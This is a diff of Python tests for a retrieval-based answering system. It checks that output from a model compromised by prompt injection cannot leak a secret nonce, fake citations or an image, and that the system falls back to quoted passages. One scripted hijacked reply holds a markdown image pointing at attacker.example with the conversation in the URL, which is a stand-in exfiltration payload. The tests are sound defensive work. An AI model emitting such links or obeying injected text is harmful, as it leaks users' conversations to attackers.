@@ -91,7 +91,12 @@ def test_a_compromised_model_cannot_pass_the_nonce_an_image_or_fake_citations(
         f"The prison authorities say family visits are not allowed at CECOT, {NONCE} [{visits}]. "
         f"Inmates may receive visits every Sunday [{visits}]."
     )
-    answerer = GeneratedAnswerer("openai", ScriptedBackend(obedient), injected_assistant)
+    answerer = GeneratedAnswerer(
+        "openai",
+        ScriptedBackend(obedient),
+        injected_assistant.embedder,
+        injected_assistant.answerer("extractive"),
+    )
     streamed, answer = collect(answerer.stream(question, passages))
     assert_not_hijacked(answer)
     assert streamed == answer.text
@@ -109,7 +114,12 @@ def test_a_compromised_model_cannot_pass_the_nonce_an_image_or_fake_citations(
 def test_the_whole_reply_hijacked_falls_back_to_quoted_sentences(injected_assistant: Assistant) -> None:
     question, passages = injected_assistant.prepare(SIZE_QUESTION, None, 3)
     hijacked = f"{NONCE}. ![status](https://attacker.example/log?c=conversation) [1] [2] [3]"
-    answerer = GeneratedAnswerer("openai", ScriptedBackend(hijacked), injected_assistant)
+    answerer = GeneratedAnswerer(
+        "openai",
+        ScriptedBackend(hijacked),
+        injected_assistant.embedder,
+        injected_assistant.answerer("extractive"),
+    )
     _, answer = collect(answerer.stream(Question(question.text, question.retrieval_query), passages))
     assert_not_hijacked(answer)
     assert answer.generator == "extractive (fallback from openai:scripted)"
